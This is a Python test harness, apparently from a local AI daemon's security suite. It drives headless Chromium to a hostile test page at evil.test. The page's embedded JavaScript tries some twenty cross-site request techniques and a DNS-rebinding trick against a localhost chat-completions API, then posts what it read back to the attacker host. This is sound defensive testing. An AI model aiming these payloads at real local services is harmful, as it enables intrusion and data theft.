"""A hostile web site with a real browser looking at it: what its pages try is decided here, what came of it is told.

The site has a name of its own, and a second one that is first its own and then leads to the daemon: a name that
was rebound. The browser is told both names by an option, so that no name server is asked.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

__all__ = ["CHROMIUM", "Naive", "Site", "looked_at"]

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage", "--no-proxy-server",
)  # fmt: skip
_SITE, _REBOUND = "evil.test", "rebound.test"

_PAGE = """<!doctype html><meta charset=utf-8><title>Kittens</title><body><script>
const targets = TARGETS, site = "SITE", rebound = REBOUND, seen = [];
const body = JSON.stringify({model: "default", messages: [{role: "user", content: "Hi"}]});
const told = (what, target, result) => seen.push({what, target, result: String(result).slice(0, 300)});
const soon = (work) => Promise.race([work, new Promise(done => setTimeout(() => done("nothing"), 3000))]);
async function attempt(what, target, work) {
  try { told(what, target, await soon(work())); } catch (error) { told(what, target, "blocked: " + error); }
}
const read = async (answer) => answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
function loaded(tag, attributes) {
  return new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => { let inside = "opaque"; try { inside = element.contentDocument.body.textContent; } catch {}
                             done("loaded " + inside); };
    element.onerror = () => done("blocked");
    Object.assign(element, attributes); document.body.append(element);
  });
}
function form(url, enctype, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random(); document.body.append(frame);
    frame.onload = () => { try { done("read " + frame.contentDocument.body.textContent); } catch { done("opaque"); } };
    Object.assign(form, {action: url, method: "POST", enctype, target: frame.name});
    for (const [name, value] of fields) {
      const input = document.createElement("input"); input.type = "hidden"; input.name = name; input.value = value;
      form.append(input);
    }
    document.body.append(form); form.submit();
  });
}
async function attack(target) {
  const chat = "http://" + target + "/v1/chat/completions", models = "http://" + target + "/v1/models";
  const reload = "http://" + target + "/reload";
  const json = {"content-type": "application/json"}, plain = {"content-type": "text/plain"};
  const post = (options) => () => fetch(chat, {method: "POST", body, ...options}).then(read);
  await Promise.all([
    attempt("simple fetch", target, post({headers: plain})),
    attempt("opaque fetch", target, post({headers: plain, mode: "no-cors"})),
    attempt("untyped fetch", target, post({mode: "no-cors"})),
    attempt("preflighted fetch", target, post({headers: json})),
    attempt("fetch with credentials", target, post({headers: plain, mode: "no-cors", credentials: "include"})),
    attempt("fetch with a header", target, post({headers: {"x-sidecar-route": "default", ...plain}})),
    attempt("fetch of the models", target, () => fetch(models).then(read)),
    attempt("opaque fetch of the models", target, () => fetch(models, {mode: "no-cors"}).then(read)),
    attempt("reload", target, () => fetch(reload, {method: "POST", mode: "no-cors"}).then(read)),
    attempt("delete", target, () => fetch(chat, {method: "DELETE"}).then(read)),
    attempt("form", target, () => form(chat, "text/plain", [[body.slice(0, -1) + ', "x": "', '"}']])),
    attempt("url-encoded form", target, () => form(chat, "application/x-www-form-urlencoded", [["model", "default"]])),
    attempt("multipart form", target, () => form(chat, "multipart/form-data", [["model", "default"]])),
    attempt("image", target, () => loaded("img", {src: models})),
    attempt("script", target, () => loaded("script", {src: models})),
    attempt("frame", target, () => loaded("iframe", {src: models})),
    attempt("beacon", target, async () => "sent " + navigator.sendBeacon(chat, new Blob([body], {type: "text/plain"}))),
    attempt("events", target, () => new Promise(done => {
      const source = new EventSource(models);
      source.onmessage = () => done("read"); source.onerror = () => { source.close(); done("blocked"); }; })),
    attempt("WebSocket", target, () => new Promise(done => {
      const socket = new WebSocket("ws://" + target + "/v1/chat/completions");
      socket.onopen = () => { socket.send(body); done("open"); }; socket.onerror = () => done("blocked"); })),
  ]);
}
(async () => {
  if (rebound) document.body.append(Object.assign(document.createElement("iframe"), {src: rebound}));
  await Promise.all(targets.map(attack));
  await fetch(site + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify({origin: origin, seen})});
})();
</script>"""


@dataclass
class Site:
    """What the site was told, and what it is made of."""

    reports: list[dict[str, Any]] = field(default_factory=list)
    whole: asyncio.Event = field(default_factory=asyncio.Event)

    def results(self, rebound: bool) -> list[dict[str, str]]:
        """What came of each try, of the page with the rebound name or of the other."""
        return [each for report in self.reports if (_REBOUND in report["origin"]) == rebound for each in report["seen"]]


class Naive:
    """A server that trusts whoever reaches it, as many on localhost do; what the pages made it do."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.port = 0

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Do whatever is asked."""
        method, _, _, body = await _request(reader)
        self.asked.append("prompt" if b"messages" in body else method)
        await _send(writer, b'{"data": "secret"}', "application/json")


@contextlib.asynccontextmanager
async def looked_at(port: int, others: Sequence[int] = ()) -> AsyncIterator[tuple[Site, Naive]]:
    """The site, with a browser that has looked at it, and with the daemon at this port and others.

    Args:
        port: Of the daemon on 127.0.0.1.
        others: More ports that the pages try.
    """
    assert CHROMIUM is not None
    site, naive = Site(), Naive()
    async with contextlib.AsyncExitStack() as stack:
        trusting = await stack.enter_async_context(await asyncio.start_server(_kept(naive.answer), "127.0.0.1", 0))
        naive.port = trusting.sockets[0].getsockname()[1]
        pages: dict[str, str] = {}

        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            method, path, _, body = await _request(reader)
            if method == "POST":
                site.reports.append(json.loads(body))
                if len(site.reports) == 2:
                    site.whole.set()
            await _send(writer, pages["evil"].encode() if path == "/" else b"", "text/html")

        async def rebind(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            _, path, whole, _ = await _request(reader)
            if path == "/kittens":
                await _send(writer, pages["rebound"].encode(), "text/html")
            else:  # the name leads to the daemon now
                await _relay(whole, writer, port)

        server = await stack.enter_async_context(await asyncio.start_server(_kept(serve), "127.0.0.1", 0))
        await stack.enter_async_context(await asyncio.start_server(_kept(rebind), "127.0.0.2", port))
        here = f"http://{_SITE}:{server.sockets[0].getsockname()[1]}"
        hosts = [f"127.0.0.1:{port}", f"localhost:{port}", *(f"127.0.0.1:{each}" for each in (*others, naive.port))]
        pages["evil"] = _page(hosts, here, f"http://{_REBOUND}:{port}/kittens")
        pages["rebound"] = _page([f"{_REBOUND}:{port}"], here, "")
        await _look(here, site)
        yield site, naive


_Server = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def _kept(server: _Server) -> _Server:
    """The same, untroubled by a browser that connects and then says nothing, or leaves."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            await server(reader, writer)
        writer.close()

    return serve


def _page(targets: Sequence[str], site: str, rebound: str) -> str:
    page = _PAGE.replace("TARGETS", json.dumps(list(targets)))
    return page.replace("SITE", site).replace("REBOUND", json.dumps(rebound))


async def _look(url: str, site: Site) -> None:
    profile = tempfile.mkdtemp(prefix="sc-browser-", dir="/tmp")
    rules = f"MAP {_SITE} 127.0.0.1, MAP {_REBOUND} 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.*"
    arguments = [*_FLAGS, f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", "--remote-debugging-port=0"]
    quiet = asyncio.subprocess.DEVNULL
    browser = await asyncio.create_subprocess_exec(str(CHROMIUM), *arguments, url, stdout=quiet, stderr=quiet)
    try:
        async with asyncio.timeout(30):
            await site.whole.wait()
    finally:
        with contextlib.suppress(ProcessLookupError):
            browser.terminate()
        try:
            await asyncio.wait_for(browser.wait(), 5)
        except TimeoutError:
            browser.kill()
            await browser.wait()
        shutil.rmtree(profile, ignore_errors=True)


async def _request(reader: asyncio.StreamReader) -> tuple[str, str, bytes, bytes]:
    """Method, path, all bytes, and the body of a request."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    method, path, _ = lines[0].split(" ")
    length = next((int(line[15:]) for line in lines if line.lower().startswith("content-length:")), 0)
    body = await reader.readexactly(length)
    return method, path, head + body, body


async def _send(writer: asyncio.StreamWriter, body: bytes, kind: str) -> None:
    head = f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n"
    writer.write(head.encode() + body)
    await writer.drain()
    writer.close()


async def _relay(request: bytes, writer: asyncio.StreamWriter, port: int) -> None:
    theirs, ours = await asyncio.open_connection("127.0.0.1", port)
    ours.write(request.replace(b"Connection: keep-alive", b"Connection: close"))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(2):
            writer.write(await theirs.read())
    ours.close()
    writer.close()
